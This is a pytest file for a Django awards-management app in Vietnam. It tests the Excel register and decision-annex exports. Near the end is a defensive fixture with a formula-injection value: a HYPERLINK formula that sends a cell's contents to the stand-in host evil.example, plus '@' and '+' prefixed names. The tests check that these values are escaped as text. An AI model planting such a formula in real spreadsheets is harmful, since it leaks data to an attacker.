import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Organization
from awards.services import draft_decision, sign_decision
from tests.factories import AwardFormFactory, OrganizationFactory, approved_nomination

FAR = datetime.date(2099, 1, 1)
REGISTER_HEADERS = ["STT", "Họ và tên / Tập thể", "Đơn vị", "Hình thức khen thưởng", "Số quyết định", "Ngày quyết định", "Số vào sổ"]


@pytest.fixture
def award_form(db):
    city = OrganizationFactory(name="Ủy ban nhân dân thành phố Cần Thơ", short_name="UBND TP Cần Thơ", document_code="UBND", kind=Organization.Kind.PEOPLES_COMMITTEE)
    return AwardFormFactory(
        name="Bằng khen của Chủ tịch Ủy ban nhân dân thành phố", kind="bang_khen", granting_organization=city,
        signer_title="Chủ tịch Ủy ban nhân dân thành phố Cần Thơ",
        campaign__nomination_deadline=FAR, campaign__award_deadline=FAR, campaign__number="67/KH-UBND",
    )


@pytest.fixture
def unit(db):
    return OrganizationFactory(name="Trung tâm Trợ giúp pháp lý nhà nước thành phố Cần Thơ")


@pytest.fixture
def draft(award_form, unit, office_user):
    for name in ("Nguyễn Thị Ngọc Hà", "Trần Văn Đức"):
        approved_nomination(campaign=award_form.campaign, award_form=award_form, submitting_unit=unit,
                            nominee_person__full_name=name, nominee_person__position="Trợ giúp viên pháp lý")
    collective = OrganizationFactory(name="Phòng Nghiệp vụ 1", parent=unit)
    approved_nomination(campaign=award_form.campaign, award_form=award_form, submitting_unit=unit,
                        nominee_person=None, nominee_organization=collective)
    decision = draft_decision(award_form, by=office_user)
    decision.signer_name = "Nguyễn Ngọc Hè"
    decision.save()
    return decision


@pytest.fixture
def signed(draft, leader):
    return sign_decision(draft, by=leader)


def workbook_of(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.django_db
def test_register_export_is_an_xlsx_attachment(client_of, office_user, signed):
    response = client_of(office_user).get(reverse("awards:register_export"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="so-khen-thuong.xlsx"'


@pytest.mark.django_db
def test_register_export_has_vietnamese_bold_headers_and_the_awards(client_of, office_user, signed):
    sheet = workbook_of(client_of(office_user).get(reverse("awards:register_export"))).active

    rows = rows_of(sheet)
    assert rows[0] == REGISTER_HEADERS
    assert all(cell.font.b for cell in sheet[1])
    assert rows[1] == [
        1, "Phòng Nghiệp vụ 1", "Trung tâm Trợ giúp pháp lý nhà nước thành phố Cần Thơ",
        "Bằng khen của Chủ tịch Ủy ban nhân dân thành phố", "01/QĐ-UBND",
        datetime.datetime.combine(signed.issue_date, datetime.time()), f"01.001/{signed.year}",
    ]
    assert [row[1] for row in rows[2:]] == ["Nguyễn Thị Ngọc Hà", "Trần Văn Đức"]


@pytest.mark.django_db
def test_register_export_writes_decision_dates_as_dates_shown_day_month_year(client_of, office_user, signed):
    sheet = workbook_of(client_of(office_user).get(reverse("awards:register_export"))).active

    date_cell = sheet["F2"]
    assert date_cell.is_date
    assert date_cell.number_format == "DD/MM/YYYY"


@pytest.mark.django_db
def test_register_export_sets_readable_column_widths(client_of, office_user, signed):
    sheet = workbook_of(client_of(office_user).get(reverse("awards:register_export"))).active

    assert sheet.column_dimensions["B"].width >= 30
    assert sheet.column_dimensions["C"].width >= 30


@pytest.mark.django_db
def test_register_export_keeps_the_search_and_filters(client_of, office_user, signed):
    response = client_of(office_user).get(reverse("awards:register_export"), {"q": "tran van duc", "kind": "individual"})

    rows = rows_of(workbook_of(response).active)
    assert [row[1] for row in rows[1:]] == ["Trần Văn Đức"]


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["unit_user", "council_member"])
def test_register_export_is_refused_to_units_and_council_members(client_of, request, role, signed):
    response = client_of(request.getfixturevalue(role)).get(reverse("awards:register_export"))

    assert response.status_code == 403


@pytest.mark.django_db
def test_decision_export_lists_the_annex_collectives_then_individuals(client_of, office_user, signed):
    response = client_of(office_user).get(reverse("awards:decision_export", args=[signed.pk]))

    rows = rows_of(workbook_of(response).active)
    assert response["Content-Disposition"].startswith("attachment;") and ".xlsx" in response["Content-Disposition"]
    assert rows[0][0] == "DANH SÁCH TẬP THỂ, CÁ NHÂN ĐƯỢC TẶNG BẰNG KHEN CỦA CHỦ TỊCH ỦY BAN NHÂN DÂN THÀNH PHỐ"
    assert rows[1][0] == f"(Kèm theo Quyết định số 01/QĐ-UBND ngày {signed.issue_date:%d/%m/%Y})"
    assert rows[3] == ["STT", "Họ và tên / Tập thể", "Chức vụ, chức danh", "Đơn vị", "Số vào sổ"]
    assert rows[4][1] == "I. TẬP THỂ"
    assert rows[5] == [1, "Phòng Nghiệp vụ 1", None, "Trung tâm Trợ giúp pháp lý nhà nước thành phố Cần Thơ", f"01.001/{signed.year}"]
    assert rows[6][1] == "II. CÁ NHÂN"
    assert rows[7][:3] == [1, "Nguyễn Thị Ngọc Hà", "Trợ giúp viên pháp lý"]
    assert rows[8][:2] == [2, "Trần Văn Đức"]


@pytest.mark.django_db
def test_decision_export_of_a_draft_says_it_is_a_draft(client_of, office_user, draft):
    response = client_of(office_user).get(reverse("awards:decision_export", args=[draft.pk]))

    rows = rows_of(workbook_of(response).active)
    assert rows[1][0] == "(Kèm theo dự thảo Quyết định số …/QĐ-UBND)"
    assert rows[5][4] is None


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Bấm vào đây")'


@pytest.fixture
def signed_with_formulas(award_form, leader, office_user):
    unit = OrganizationFactory(name="@SUM(A1:A9) Trung tâm")
    approved_nomination(campaign=award_form.campaign, award_form=award_form, submitting_unit=unit,
                        nominee_person__full_name=HYPERLINK, nominee_person__organization=unit,
                        nominee_person__position="+84 Trợ giúp viên", nominee_person__title="")
    decision = draft_decision(award_form, by=office_user)
    decision.signer_name = "Nguyễn Ngọc Hè"
    decision.save()
    return sign_decision(decision, by=leader)


@pytest.mark.django_db
def test_register_export_writes_a_name_typed_as_a_formula_as_text(client_of, office_user, signed_with_formulas):
    sheet = workbook_of(client_of(office_user).get(reverse("awards:register_export"))).active

    assert [sheet["B2"].value, sheet["C2"].value] == ["'" + HYPERLINK, "'@SUM(A1:A9) Trung tâm"]
    assert {sheet["B2"].data_type, sheet["C2"].data_type} == {"s"}


@pytest.mark.django_db
def test_decision_export_writes_a_name_typed_as_a_formula_as_text(client_of, office_user, signed_with_formulas):
    response = client_of(office_user).get(reverse("awards:decision_export", args=[signed_with_formulas.pk]))

    sheet = workbook_of(response).active
    assert [sheet["B6"].value, sheet["C6"].value, sheet["D6"].value] == [
        "'" + HYPERLINK, "'+84 Trợ giúp viên", "'@SUM(A1:A9) Trung tâm",
    ]
    assert {sheet["B6"].data_type, sheet["C6"].data_type, sheet["D6"].data_type} == {"s"}
